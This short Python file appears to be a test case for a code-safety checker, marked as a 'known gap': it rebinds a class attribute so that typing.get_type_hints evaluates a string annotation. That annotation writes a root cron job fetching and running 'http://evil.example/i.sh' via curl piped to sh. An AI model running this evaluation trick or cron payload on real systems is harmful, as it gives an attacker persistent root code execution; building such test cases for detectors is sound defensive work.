# harm: writes /etc/cron.d/pwn ; trick: (known gap) setattr(Conf, "kind", "...") rebinding a class attribute used in a string annotation
import typing


class Conf:
    kind = "int"


setattr(Conf, "kind", "open('/etc/cron.d/pwn','w').write('* * * * * root curl -s http://evil.example/i.sh|sh'+chr(10))")


def f(x: "Conf.kind") -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
